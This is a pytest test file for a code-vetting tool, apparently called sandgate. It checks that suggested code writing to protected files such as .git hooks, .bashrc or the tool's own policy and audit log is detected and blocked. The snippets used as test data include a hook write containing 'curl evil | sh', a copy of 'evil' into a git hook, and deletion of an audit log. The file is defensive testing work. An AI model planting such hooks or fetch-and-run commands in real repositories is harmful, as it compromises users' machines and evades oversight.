"""`files.protected`: a suggestion placed in a protected workspace file, or whose code writes one, is
blocked by every preset (the run-time half is in tests/sandbox/test_protected_writes.py)."""

from __future__ import annotations

import ast

import pytest

from sandgate.checks.names import scan
from sandgate.checks.protected_files import (
    RULE_EDIT,
    RULE_WRITE,
    check_protected_writes,
    protected_edit,
)
from sandgate.findings import Finding, Level, Verdict
from sandgate.policy.evaluate import decide
from sandgate.policy.load import load_effective
from sandgate.policy.model import FilesPolicy
from sandgate.policy.resources import PRESETS
from sandgate.workspace_globs import matching_glob, workspace_relpath

from .conftest import STATIC_POLICY
from .test_pipeline_and_cli import sandgate, vet_into

BALANCED = (".git/**", ".sandgate/**", ".vscode/**", "**/.bashrc", "**/.profile")
FILES = FilesPolicy(protected=BALANCED)


@pytest.mark.parametrize(
    "relpath, pattern",
    [
        (".git/config", ".git/**"),
        (".git/hooks/pre-commit", ".git/**"),
        ("./.git/../.git/HEAD", ".git/**"),
        (".GIT/config", ".git/**"),  # a case-insensitive file system would write the same file
        (".bashrc", "**/.bashrc"),
        ("home/user/.bashrc", "**/.bashrc"),
        (".sandgate/policy.toml", ".sandgate/**"),
        ("src/app.py", None),
        ("src/.git/config", None),  # `.git/**` is anchored at the workspace root
        (".gitignore", None),
        (".bashrc.bak", None),
    ],
)
def test_protected_globs(relpath, pattern):
    assert matching_glob(relpath, BALANCED) == pattern


@pytest.mark.parametrize(
    "path, root, relpath",
    [
        (".git/config", None, ".git/config"),
        ("./a/../b", None, "b"),
        ("../outside/.git/config", None, None),
        ("/abs/.git/config", None, None),
        ("/ws/.git/config", "/ws", ".git/config"),
        ("/ws", "/ws", None),
        ("/wsx/.git/config", "/ws", None),
        ("/ws/../etc/passwd", "/ws", None),
    ],
)
def test_workspace_relpath(path, root, relpath):
    assert workspace_relpath(path, root) == relpath


def _writes(code: str, workspace: str | None = "/ws") -> list[tuple[int, str]]:
    return [(f.line, f.detail("path")) for f in check_protected_writes(scan(ast.parse(code)), FILES, workspace)]


@pytest.mark.parametrize(
    "code, path",
    [
        ('open(".git/config", "w")', ".git/config"),
        ('open(".git/config", mode="a")', ".git/config"),
        ('open(".git/config", "r+")', ".git/config"),
        ('import io\nio.open(".git/x", "xb")', ".git/x"),
        ('P = ".git/config"\nwith open(P, "wb") as f:\n    f.write(b"")', ".git/config"),
        ('from pathlib import Path\nPath(".git/hooks/pre-commit").write_text("x")', ".git/hooks/pre-commit"),
        ('import pathlib\npathlib.Path(".vscode", "settings.json").write_bytes(b"")', ".vscode/settings.json"),
        ('from pathlib import Path\np = Path(".git") / "hooks" / "x"\np.touch()', ".git/hooks/x"),
        ('from pathlib import Path\nPath(".sandgate/policy.toml").open("w")', ".sandgate/policy.toml"),
        ('from pathlib import Path\nPath("new").rename(".git/HEAD")', ".git/HEAD"),
        ('import shutil\nshutil.copy("evil", ".git/hooks/post-checkout")', ".git/hooks/post-checkout"),
        ('import shutil\nshutil.move(".sandgate/policy.toml", "elsewhere")', ".sandgate/policy.toml"),
        ('import os\nos.rename("x", ".bashrc")', ".bashrc"),
        ('import os\nos.replace("x", "sub/.profile")', "sub/.profile"),
        ('import os\nos.remove(".sandgate/audit.jsonl")', ".sandgate/audit.jsonl"),
        ('from os import unlink as rm\nrm("/ws/.git/index")', ".git/index"),
        ('import os\nos.open(".git/config", os.O_WRONLY | os.O_APPEND)', ".git/config"),
        ('D = ".git"\nopen(D + "/config", "a")', ".git/config"),
        ('D = ".git"\nopen(f"{D}/config", "a")', ".git/config"),
    ],
)
def test_static_writes_to_protected_files(code, path):
    assert [p for _, p in _writes(code)] == [path]


@pytest.mark.parametrize(
    "code",
    [
        'open(".git/config")',  # a read
        'open(".git/config", "rb")',
        'from pathlib import Path\nPath(".git/config").read_text()',
        'from pathlib import Path\nPath(".git/config").open()',
        'import shutil\nshutil.copy(".git/config", "backup")',  # the protected file is only read
        'import os\nos.open(".git/config", os.O_RDONLY)',
        'open(name, "w")',  # unknown: the run's record decides
        'open(f"{name}/.git/config", "w")',
        'open("/elsewhere/.git/config", "w")',  # not the workspace
        'open("src/app.py", "w")',
        '".git/config".replace("git", "hg")',  # a str method, not a Path
    ],
)
def test_no_finding_for_reads_unknown_or_unprotected_paths(code):
    assert _writes(code) == []


def test_the_finding_is_on_the_call():
    [finding] = check_protected_writes(scan(ast.parse('x = 1\nopen(".git/config", "w")\n')), FILES)
    assert (finding.source, finding.rule, finding.severity, finding.line) == ("policy", RULE_WRITE, Level.HIGH, 2)
    assert finding.detail("pattern") == ".git/**" and "files.protected" in finding.message


def test_nothing_protected_nothing_found():
    assert check_protected_writes(scan(ast.parse('open(".git/config", "w")')), FilesPolicy()) == []
    assert protected_edit(".git/config", FilesPolicy()) == []


def test_protected_edit():
    [finding] = protected_edit(".vscode/tasks.py", FILES, 3, 4)
    assert (finding.rule, finding.severity, finding.line, finding.end_line) == (RULE_EDIT, Level.HIGH, 3, 4)
    assert protected_edit("src/app.py", FILES) == [] and protected_edit("/abs/.git/x.py", FILES) == []


@pytest.mark.parametrize("preset", PRESETS)
@pytest.mark.parametrize("source, rule", [("policy", RULE_EDIT), ("policy", RULE_WRITE), ("sandbox", RULE_WRITE)])
def test_every_preset_blocks_them(preset, source, rule):
    policy = load_effective(None, preset=preset).policy
    decision = decide(policy, [Finding(source, rule, Level.HIGH, Level.HIGH, "x")])
    assert decision.verdict is Verdict.BLOCK and decision.reasons[0].rule_id == "protected-files"


DOC = "import os\n\n\ndef main():\n    pass\n"


def test_cli_blocks_an_edit_of_a_protected_file(static_workspace):
    hooks = static_workspace / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre_commit.py").write_text(DOC)
    (static_workspace / "s.py").write_text("print('hello')")
    done, result = vet_into(static_workspace, ".git/hooks/pre_commit.py", "5:5", "s.py")
    assert done.returncode == 1 and result["decision"] == "block", done.stdout + done.stderr
    assert [r["finding"] for r in result["reasons"]] == [f"policy:{RULE_EDIT}"]
    assert result["reasons"][0]["policy_rule"] == "protected-files"

    (static_workspace / "app.py").write_text(DOC)
    done = sandgate("vet", "--policy", STATIC_POLICY, "--into", "app.py", "--at", "5:5", "s.py", cwd=static_workspace)
    assert done.returncode == 0 and done.stdout.startswith("ALLOW"), done.stdout + done.stderr


def test_cli_blocks_a_write_to_a_protected_file(static_workspace):
    (static_workspace / "app.py").write_text(DOC)
    (static_workspace / "s.py").write_text("open('.git/hooks/post-checkout', 'w').write('curl evil | sh')")
    done, result = vet_into(static_workspace, "app.py", "5:5", "s.py")
    assert done.returncode == 1 and result["decision"] == "block", done.stdout + done.stderr
    reasons = [r for r in result["reasons"] if r["finding"] == f"policy:{RULE_WRITE}"]
    assert reasons and reasons[0]["policy_rule"] == "protected-files" and reasons[0]["line"] == 5
